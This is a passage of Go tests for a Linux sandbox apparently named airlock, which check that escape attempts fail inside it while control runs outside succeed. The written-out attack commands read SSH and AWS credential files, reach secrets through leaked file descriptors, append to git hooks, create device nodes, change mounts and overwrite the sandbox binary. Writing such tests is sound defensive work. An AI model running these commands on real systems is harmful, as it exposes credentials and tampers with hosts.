			wantErr: "Operation not permitted", denyPath: "$WORK/g/hooks", denyRule: "protected .git/hooks"},
		// The kernel refuses to rename a mount point (EBUSY) in the
		// sandbox's own mount namespace; the host's hooks and config
		// must stay where git looks for them.
		{name: "move hooks dir away", script: `mv .git/hooks oldhooks`,
			wantErr: "Device or resource busy", keep: []string{".git/hooks/sample"}},
		{name: "move config away", script: `mv .git/config oldconfig`,
			wantErr: "Device or resource busy", keep: []string{".git/config"}},
		{name: "hardlink config", script: `ln .git/config cfg && echo '[core]' >> cfg`,
			wantErr: "Invalid cross-device link", outside: true},
		{name: "hardlink hook", script: `ln .git/hooks/sample s && echo evil >> s`,
			wantErr: "Invalid cross-device link", outside: true},
	}
	fixtureFor := func(t *testing.T, noHooks bool) *fixture {
		f := newFixture(t)
		if noHooks {
			if err := os.RemoveAll(f.Work + "/.git/hooks"); err != nil {
				t.Fatal(err)
			}
		}
		return f
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := fixtureFor(t, tc.noHooks)
			keep := map[string]string{}
			for _, k := range tc.keep {
				keep[k] = fsFileHash(t, filepath.Join(f.Work, k))
			}
			r := f.sandbox(t, nil, tc.script)
			if tc.wantErr != "" {
				fsMustFail(t, "attack", r)
				mustContain(t, "attack stderr", r.Stderr, tc.wantErr)
			}
			mustContain(t, "attack stdout", r.Stdout, tc.wantOut)
			if tc.denyPath != "" {
				fsMustDenyLine(t, r.Stderr, fsExpand(f, tc.denyPath), tc.denyRule)
			}
			if bad := fsGitTampering(t, f.Work, !tc.noHooks); len(bad) > 0 {
				t.Errorf("host git state: got %q, want no tampering", bad)
			}
			for k, h := range keep {
				if got := fsFileHash(t, filepath.Join(f.Work, k)); got != h {
					t.Errorf("host %s: got hash %s, want unchanged %s", k, got, h)
				}
			}
			// The control starts from a fresh copy of the same fixture.
			g := fixtureFor(t, tc.noHooks)
			var c result
			if tc.outside {
				c = g.outside(t, tc.script)
			} else {
				c = g.sandbox(t, []string{"--policy", fsPolicyFile(t, g, ".git/hooks", ".git/config")}, tc.script)
			}
			fsMustSucceed(t, "control", c)
			if tc.wantOut != "" {
				mustContain(t, "control stdout", c.Stdout, "ok")
			}
		})
	}
}

// TestFSDenyWrite checks --deny-write on an existing workspace file: it
// stays read-only however it is approached. The control is the same script
// without the flag.
func TestFSDenyWrite(t *testing.T) {
	requireRoot(t)
	tests := []struct{ name, script, want string }{
		{"append", `echo changed >> notes.txt`, "cannot create notes.txt: Read-only file system"},
		{"rename over", `echo changed > n && mv n notes.txt`, "Device or resource busy"},
		{"rename away and recreate", `mv notes.txt n; echo changed > notes.txt`, "Device or resource busy"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			p := f.Work + "/notes.txt"
			fsWriteHost(t, p, "keep\n")
			r := f.sandbox(t, []string{"--deny-write", "notes.txt"}, tc.script)
			fsMustFail(t, "attack", r)
			mustContain(t, "attack stderr", r.Stderr, tc.want)
			if b, err := os.ReadFile(p); err != nil || string(b) != "keep\n" {
				t.Errorf("host notes.txt: got %q, %v; want \"keep\\n\"", b, err)
			}
			g := newFixture(t)
			p = g.Work + "/notes.txt"
			fsWriteHost(t, p, "keep\n")
			c := g.sandbox(t, nil, tc.script)
			fsMustSucceed(t, "control (no --deny-write)", c)
			if b, _ := os.ReadFile(p); !strings.Contains(string(b), "changed") {
				t.Errorf("control: host notes.txt %q, want it changed", b)
			}
		})
	}
}

// TestFSHardlinks links secrets into the workspace.
func TestFSHardlinks(t *testing.T) {
	requireRoot(t)
	tests := []struct {
		name, src, canary, want string
	}{
		// ~/.ssh is an empty mode-0000 directory inside: the name is unreachable.
		{"masked dir", "/.ssh/id_rsa", secretSSH, "link errno=EACCES"},
		// ~/.netrc is an empty file bound over the original: another mount.
		{"masked file", "/.netrc", "NETRC-CANARY", "link errno=EXDEV"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			script := fsPy(`attempt("link", lambda: os.link(H + "` + tc.src + `", "k"))
attempt("read", lambda: open("k", "rb").read())`)
			r := f.sandbox(t, nil, script)
			mustContain(t, "attack stdout", r.Stdout, tc.want)
			mustNotContain(t, "attack stdout", r.Stdout, tc.canary)
			fsMustBeAbsent(t, f.Work+"/k")
			c := f.outside(t, script)
			mustContain(t, "control stdout", c.Stdout, "link ok")
			mustContain(t, "control stdout", c.Stdout, tc.canary)
		})
	}
	// A hardlink that already exists in the workspace names the same inode
	// as the secret; masks work on paths, so it is readable. This is a
	// documented limitation (the user put the secret in the workspace), not
	// an escape; the test records the behaviour so a change is noticed.
	t.Run("pre-existing hardlink is readable (limitation)", func(t *testing.T) {
		f := newFixture(t)
		if err := os.Link(f.Home+"/.aws/credentials", f.Work+"/creds"); err != nil {
			t.Fatal(err)
		}
		r := f.sandbox(t, nil, `cat creds`)
		fsMustSucceed(t, "cat pre-existing hardlink", r)
		mustContain(t, "stdout", r.Stdout, secretAWS)
		d := f.sandbox(t, nil, `cat "$HOME/.aws/credentials"`)
		mustContain(t, "masked original stderr", d.Stderr, "Permission denied")
	})
}

// TestFSLeakedFDs starts airlock with descriptors on secrets inherited as
// fds 3-5 (a key, a credentials file, the ~/.ssh directory) and tries to
// reopen them through /proc/self/fd. The control is a plain child given the
// same descriptors.
func TestFSLeakedFDs(t *testing.T) {
	requireRoot(t)
	f := newFixture(t)
	var files []*os.File
	for _, p := range []string{"/.ssh/id_rsa", "/.aws/credentials", "/.ssh"} {
		fh, err := os.Open(f.Home + p)
		if err != nil {
			t.Fatal(err)
		}
		defer fh.Close()
		files = append(files, fh)
	}
	extra := func(c *exec.Cmd) { c.ExtraFiles = files }
	script := `for i in 3 4 5 6 7 8 9 10; do cat /proc/self/fd/$i; done; cat /proc/self/fd/5/id_rsa`
	before := treeHash(t, f.Home)
	r := fsStart(t, f.Work, f.env(), extra, fsRunArgv(airlockBin, nil, script)...)()
	mustNotContain(t, "attack stdout", r.Stdout, secretSSH)
	mustNotContain(t, "attack stdout", r.Stdout, secretAWS)
	for i := 3; i <= 10; i++ {
		mustContain(t, "attack stderr", r.Stderr, fmt.Sprintf("cat: /proc/self/fd/%d: No such file or directory", i))
	}
	mustContain(t, "attack stderr", r.Stderr, "cat: /proc/self/fd/5/id_rsa: No such file or directory")
	if after := treeHash(t, f.Home); after != before {
		t.Errorf("host home: got tree %s, want unchanged %s", after, before)
	}
	c := fsStart(t, f.Work, f.env(), extra, "/bin/sh", "-c", script)()
	mustContain(t, "control stdout", c.Stdout, secretSSH)
	mustContain(t, "control stdout", c.Stdout, secretAWS)
}

// fsHostMountPoints returns the mount points of the test process's (the
// host's) mount namespace.
func fsHostMountPoints(t *testing.T) map[string]bool {
	t.Helper()
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		t.Fatal(err)
	}
	m := map[string]bool{}
	for _, line := range strings.Split(string(b), "\n") {
		if fields := strings.Fields(line); len(fields) > 4 {
			m[fields[4]] = true
		}
	}
	return m
}

// TestFSDevicesAndMounts makes device nodes and tries to change the mount
// table. Controls run as root on the host (mount changes in a private
// mount namespace made by unshare -m, so the host is not touched).
func TestFSDevicesAndMounts(t *testing.T) {
	requireRoot(t)
	t.Run("mknod in workspace", func(t *testing.T) {
		f := newFixture(t)
		r := f.sandbox(t, nil, `mknod devmem c 1 1`)
		fsMustFail(t, "attack", r)
		mustContain(t, "attack stderr", r.Stderr, "mknod: devmem: Operation not permitted")
		fsMustDenyLine(t, r.Stderr, f.Work+"/devmem", "device nodes")
		fsMustBeAbsent(t, f.Work+"/devmem")
		c := f.outside(t, `mknod devmem c 1 1 && test -c devmem && echo made`)
		mustContain(t, "control stdout", c.Stdout, "made")
	})
	t.Run("mknod in dev", func(t *testing.T) {
		f := newFixture(t)
		name := "/dev/escape-" + filepath.Base(f.Home)
		r := f.sandbox(t, nil, `mknod `+name+` c 1 1`)
		fsMustFail(t, "attack", r)
		mustContain(t, "attack stderr", r.Stderr, "mknod: "+name+": Operation not permitted")
		fsMustDenyLine(t, r.Stderr, name, "device nodes")
		fsMustBeAbsent(t, name)
		c := runCmd(t, f.Work, f.env(), "unshare", "-m", "/bin/sh", "-c",
			`mount -t tmpfs none /dev && mknod `+name+` c 1 1 && test -c `+name+` && echo made`)
		mustContain(t, "control stdout", c.Stdout, "made")
		fsMustBeAbsent(t, name)
	})
	t.Run("mount remount umount", func(t *testing.T) {
		f := newFixture(t)
		script := fsPy(`
libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_void_p]
libc.umount2.argtypes = [ctypes.c_char_p, ctypes.c_int]
def m(label, rc):
    e = ctypes.get_errno()
    print(label, "ok" if rc == 0 else "errno=" + errno.errorcode.get(e, str(e)), flush=True)
MS_REMOUNT, MS_BIND, MNT_DETACH = 32, 4096, 2
m("remount", libc.mount(b"none", b"/", None, MS_REMOUNT | MS_BIND, None))
m("tmpfs", libc.mount(b"none", b"/mnt", b"tmpfs", 0, None))
m("umount", libc.umount2(b"/proc", MNT_DETACH))
`)
		before := fsHostMountPoints(t)
		r := f.sandbox(t, nil, script)
		for _, want := range []string{"remount errno=EPERM", "tmpfs errno=EPERM", "umount errno=EPERM"} {
			mustContain(t, "attack stdout", r.Stdout, want)
		}
		after := fsHostMountPoints(t)
		if !after["/proc"] || after["/mnt"] != before["/mnt"] {
			t.Errorf("host mounts: got /proc %v, /mnt %v; want /proc mounted and /mnt as before (%v)", after["/proc"], after["/mnt"], before["/mnt"])
		}
		c := runCmd(t, f.Work, f.env(), "unshare", "-m", "/bin/sh", "-c", script)
		for _, want := range []string{"remount ok", "tmpfs ok", "umount ok"} {
			mustContain(t, "control stdout", c.Stdout, want)
		}
	})
}

// TestFSAirlockBinary attacks the airlock binary: through /proc/1/exe (PID 1
// inside is airlock's init), and as a copy inside the workspace that the
// user ran (kept read-only because the user will run it again).
func TestFSAirlockBinary(t *testing.T) {
	requireRoot(t)
	t.Run("proc 1 exe", func(t *testing.T) {
		f := newFixture(t)
		before := fsFileHash(t, airlockBin)
		script := fsPy(`
attempt("readlink", lambda: os.readlink("/proc/1/exe"))
attempt("write", lambda: os.open("/proc/1/exe", os.O_WRONLY))
attempt("creat", lambda: os.open("/proc/1/exe", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755))
attempt("read", lambda: readfd(os.open("/proc/1/exe", os.O_RDONLY))[:4])
`)
		r := f.sandbox(t, nil, script)
		// O_CREAT goes through the create guard; it answers EACCES, as the
		// kernel does for the plain open: init is not dumpable.
		for _, want := range []string{"readlink errno=EACCES", "write errno=EACCES", "creat errno=EACCES", "read errno=EACCES"} {
			mustContain(t, "attack stdout", r.Stdout, want)
		}
		if got := fsFileHash(t, airlockBin); got != before {
			t.Errorf("airlock binary: got hash %s, want unchanged %s", got, before)
		}
		// Outside, /proc/PID/exe of one's own process opens the binary.
		c := f.outside(t, strings.ReplaceAll(script, "/proc/1/", "/proc/self/"))
		mustContain(t, "control stdout", c.Stdout, "readlink ok /usr/bin/python3")
		mustContain(t, "control stdout", c.Stdout, "read ok \x7fELF")
	})
	tests := []struct{ name, script, want string }{
		{"copy over", `cp /bin/true airlock`, "cp: cannot create regular file 'airlock': Read-only file system"},
		{"truncate", `: > airlock`, "cannot create airlock: Read-only file system"},
		{"rename over", `cp /bin/true t && mv t airlock`, "Device or resource busy"},
		{"rename away and recreate", `mv airlock a2; cp /bin/true airlock`, "Device or resource busy"},
	}
	// withCopy is a fixture whose workspace holds a copy of the binary.
	withCopy := func(t *testing.T) (*fixture, string) {
		f := newFixture(t)
		bin := f.Work + "/airlock"
		b, err := os.ReadFile(airlockBin)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(bin, b, 0o755); err != nil {
			t.Fatal(err)
		}
		return f, bin
	}
	for _, tc := range tests {
		t.Run("in workspace "+tc.name, func(t *testing.T) {
			f, bin := withCopy(t)
			before := fsFileHash(t, bin)
			r := runCmd(t, f.Work, f.env(), fsRunArgv(bin, nil, tc.script)...)
			fsMustFail(t, "attack", r)
			mustContain(t, "attack stderr", r.Stderr, tc.want)
			if got := fsFileHash(t, bin); got != before {
				t.Errorf("host %s: got hash %s, want unchanged %s", bin, got, before)
			}
			// Control: outside, on a fresh copy, nothing protects the binary.
			g, gbin := withCopy(t)
			c := g.outside(t, tc.script)
			fsMustSucceed(t, "control", c)
			if got := fsFileHash(t, gbin); got == before {
				t.Errorf("control: host %s unchanged, want it replaced", gbin)
			}
		})
	}
}

// TestFSSysReadOnly checks that /sys and everything mounted below it is
// read-only, and that a sysfs attribute root can write on the host is not
// writable inside.
func TestFSSysReadOnly(t *testing.T) {
	requireRoot(t)
	attr := ""
	for _, p := range []string{"/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/mm/ksm/run", "/sys/power/state"} {
		if unix.Access(p, unix.W_OK) == nil {
			attr = p
			break
		}
	}
	if attr == "" {
		t.Skip("no root-writable sysfs attribute found on this kernel (looked for THP, KSM, power/state)")
	}
	f := newFixture(t)
	before := fsFileHash(t, attr)
	script := `awk '$5 == "/sys" || index($5, "/sys/") == 1 { split($6, o, ","); print "mount", $5, o[1] }' /proc/self/mountinfo; ` +
		fsPy(`attempt("write", lambda: os.open("`+attr+`", os.O_WRONLY))`)
	r := f.sandbox(t, nil, script)
	mustContain(t, "attack stdout", r.Stdout, "mount /sys ro\n")
	mustNotContain(t, "attack stdout", r.Stdout, " rw\n")
	mustContain(t, "attack stdout", r.Stdout, "write errno=EROFS")
	if got := fsFileHash(t, attr); got != before {
		t.Errorf("host %s: got hash %s, want unchanged %s", attr, got, before)
	}
	c := f.outside(t, fsPy(`print("access", os.access("`+attr+`", os.W_OK))`))
	mustContain(t, "control stdout", c.Stdout, "access True")
}

// TestFSUnprivileged runs airlock as uid 65534 (the user namespace maps it
// to itself): the masks, the read-only root and the create guard hold, and
// the workspace is writable. Controls run as the same uid on the host.
func TestFSUnprivileged(t *testing.T) {
	requireRoot(t)
	const uid = 65534
	asNobody := func(c *exec.Cmd) {
		c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uid, Gid: uid, Groups: []uint32{}}}
	}
	setup := func(t *testing.T) *fixture {
		f := newFixture(t)
		if err := os.Chmod(f.Home, 0o755); err != nil {
			t.Fatal(err)
		}
		for _, d := range []string{f.Work, f.Home + "/nobody-dir"} {
			if err := os.MkdirAll(d, 0o755); err != nil {
				t.Fatal(err)
			}
			err := filepath.WalkDir(d, func(p string, _ fs.DirEntry, err error) error {
				if err != nil {
					return err
				}
				return os.Lchown(p, uid, uid)
			})
			if err != nil {
				t.Fatal(err)
			}
		}
		return f
	}
	run := func(t *testing.T, f *fixture, flags []string, script string) result {
		return fsStart(t, f.Work, f.env(), asNobody, fsRunArgv(airlockBin, flags, script)...)()
	}
	outside := func(t *testing.T, f *fixture, script string) result {
		return fsStart(t, f.Work, f.env(), asNobody, "/bin/sh", "-c", script)()
	}
	t.Run("identity", func(t *testing.T) {
		f := setup(t)
		r := run(t, f, nil, `id -u`)
		if r.Code != 0 || r.Stdout != "65534\n" {
			t.Errorf("id -u inside: got %v, want exit 0 and \"65534\\n\"", r)
		}
	})
	t.Run("masked secret", func(t *testing.T) {
		f := setup(t)
		r := run(t, f, nil, `cat "$HOME/.ssh/id_rsa"`)
		fsMustFail(t, "attack", r)
		mustContain(t, "attack stderr", r.Stderr, fsExpand(f, "cat: $HOME/.ssh/id_rsa: Permission denied"))
		mustNotContain(t, "attack stdout", r.Stdout, secretSSH)
		c := outside(t, f, `cat "$HOME/.ssh/id_rsa"`)
		mustContain(t, "control stdout", c.Stdout, secretSSH)
	})
	t.Run("write outside", func(t *testing.T) {
		f := setup(t)
		script := `echo x > "$HOME/nobody-dir/f"`
		r := run(t, f, nil, script)
		fsMustFail(t, "attack", r)
		mustContain(t, "attack stderr", r.Stderr, fsExpand(f, "cannot create $HOME/nobody-dir/f: Read-only file system"))
		fsMustBeAbsent(t, f.Home+"/nobody-dir/f")
		c := outside(t, f, script)
		fsMustSucceed(t, "control", c)
		if _, err := os.Stat(f.Home + "/nobody-dir/f"); err != nil {
			t.Errorf("control: got %v, want the file created", err)
		}
	})
	t.Run("workspace write", func(t *testing.T) {
		f := setup(t)
		r := run(t, f, nil, `echo ok > w && cat w`)
		fsMustSucceed(t, "workspace write", r)
		fi, err := os.Stat(f.Work + "/w")
		if err != nil {
			t.Fatalf("host w: %v", err)
		}
		if st, ok := fi.Sys().(*syscall.Stat_t); !ok || st.Uid != uid {
			t.Errorf("host w owner: got %+v, want uid %d", fi.Sys(), uid)
		}
	})
	t.Run("protected create", func(t *testing.T) {
		f := setup(t)
		r := run(t, f, nil, `mkdir .vscode`)
		fsMustFail(t, "attack", r)
		mustContain(t, "attack stderr", r.Stderr, "Operation not permitted")
		fsMustDenyLine(t, r.Stderr, f.Work+"/.vscode", "protected .vscode")
		fsMustBeAbsent(t, f.Work+"/.vscode")
		c := run(t, f, []string{"--policy", fsPolicyFile(t, f, ".vscode")}, `mkdir .vscode`)
		fsMustSucceed(t, "control (unprotected)", c)
	})
}
